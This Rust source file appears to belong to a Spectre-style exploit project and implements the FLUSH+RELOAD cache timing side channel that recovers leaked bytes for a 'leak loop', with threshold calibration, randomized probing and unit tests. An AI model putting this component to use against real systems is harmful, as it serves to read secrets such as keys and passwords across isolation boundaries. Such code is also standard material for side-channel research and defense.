//! The timing side channel consumed by the leak loop.

use itertools::Itertools;
use rand::prelude::*;
use rand::rngs::ThreadRng;

use crate::cache::full_fence;
use crate::oracle::{ Oracle, TimedRead, ORACLE_SLOTS };
use crate::error::Result;

/// The outcome of one trial.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Decision {
    /// True when the side channel is confident about `guess`.
    pub decided: bool,
    /// Best-scoring byte so far.
    pub guess: u8,
}
impl Decision {
    pub fn decided(guess: u8) -> Self { Self { decided: true, guess } }
    pub fn undecided(guess: u8) -> Self { Self { decided: false, guess } }
}

/// Implemented on types which can turn the cache state of an [Oracle] into
/// a guess.
///
/// The leak loop only ever sees this interface; how a hit is told apart
/// from a miss is entirely up to the implementation.
pub trait SideChannel {
    /// The probe buffer the gadget should touch.
    fn oracle(&self) -> &Oracle;

    /// Reset the oracle before a trial.
    fn flush_oracle(&mut self);

    /// Probe the oracle, account for any hits, and decide (if possible).
    fn add_hit_and_decide(&mut self) -> Decision;

    /// Forget everything accumulated for the previous byte.
    fn begin(&mut self) {}
}

/// FLUSH+RELOAD over an [Oracle].
///
/// Every trial probes all 256 slots (in a random order, so the stride
/// prefetcher can't help) and scores each slot that reads back faster than
/// the calibrated threshold. A byte is decided once its score leads the
/// runner-up by a wide margin.
pub struct FlushReload {
    oracle: Oracle,
    probe: TimedRead,
    threshold: u64,
    scores: [usize; ORACLE_SLOTS],
    min_lead: usize,
    rng: ThreadRng,
}

impl FlushReload {
    /// Number of samples used to calibrate the hit threshold.
    const CALIBRATION_SAMPLES: usize = 4096;

    pub fn new(min_lead: usize) -> Result<Self> {
        let oracle = Oracle::new()?;
        let probe = TimedRead::emit()?;
        let threshold = Self::calibrate(&oracle, &probe);
        log::debug!("flush+reload hit threshold: {} cycles", threshold);
        Ok(Self {
            oracle,
            probe,
            threshold,
            scores: [0; ORACLE_SLOTS],
            min_lead,
            rng: rand::thread_rng(),
        })
    }

    pub fn threshold(&self) -> u64 { self.threshold }

    pub fn scores(&self) -> &[usize; ORACLE_SLOTS] { &self.scores }

    /// Pick a threshold halfway between the median cached and median
    /// uncached access latency.
    fn calibrate(oracle: &Oracle, probe: &TimedRead) -> u64 {
        let slot = oracle.slot_ptr(0);
        let mut hits = Vec::with_capacity(Self::CALIBRATION_SAMPLES);
        let mut misses = Vec::with_capacity(Self::CALIBRATION_SAMPLES);
        for _ in 0..Self::CALIBRATION_SAMPLES {
            probe.measure(slot);
            hits.push(probe.measure(slot));

            oracle.flush();
            full_fence();
            misses.push(probe.measure(slot));
        }
        let hit = median(hits);
        let miss = median(misses);
        log::debug!("calibration: median hit {}, median miss {}", hit, miss);
        hit + (miss.saturating_sub(hit) / 2)
    }

    /// Return the best and second-best scoring slots.
    fn best_two(&self) -> (usize, usize) {
        let ranked = self.scores.iter().enumerate()
            .sorted_by(|x, y| y.1.cmp(x.1).then(x.0.cmp(&y.0)))
            .map(|(idx, _)| idx)
            .take(2)
            .collect_vec();
        (ranked[0], ranked[1])
    }
}

impl SideChannel for FlushReload {
    fn oracle(&self) -> &Oracle { &self.oracle }

    fn flush_oracle(&mut self) {
        self.oracle.flush();
        full_fence();
    }

    fn add_hit_and_decide(&mut self) -> Decision {
        let mut indexes = (0..ORACLE_SLOTS).collect_vec();
        indexes.shuffle(&mut self.rng);
        for idx in indexes {
            let t = self.probe.measure(self.oracle.slot_ptr(idx as u8));
            if t <= self.threshold {
                self.scores[idx] += 1;
            }
        }

        let (best, runner_up) = self.best_two();
        let guess = best as u8;
        if self.scores[best] > 2 * self.scores[runner_up] + self.min_lead {
            Decision::decided(guess)
        } else {
            Decision::undecided(guess)
        }
    }

    fn begin(&mut self) {
        self.scores = [0; ORACLE_SLOTS];
    }
}

fn median(samples: Vec<u64>) -> u64 {
    let sorted = samples.into_iter().sorted_unstable().collect_vec();
    sorted.get(sorted.len() / 2).copied().unwrap_or(0)
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn median_of_samples() {
        assert_eq!(median(vec![5, 1, 9, 3, 7]), 5);
        assert_eq!(median(vec![]), 0);
    }

    #[test]
    fn best_two_breaks_ties_by_index() {
        let mut fr = FlushReload::new(0).unwrap();
        fr.scores[0x42] = 10;
        fr.scores[0x10] = 3;
        fr.scores[0x20] = 3;
        assert_eq!(fr.best_two(), (0x42, 0x10));
    }

    #[test]
    fn decides_on_a_clear_lead() {
        let mut fr = FlushReload::new(5).unwrap();
        // Pretend 0x41 was hit many times already.
        fr.scores[0x41] = 1000;
        fr.flush_oracle();
        let d = fr.add_hit_and_decide();
        assert_eq!(d.guess, 0x41);
        // Noise can at worst score every slot once more in this trial.
        assert!(d.decided);

        fr.begin();
        assert!(fr.scores().iter().all(|s| *s == 0));
    }
}
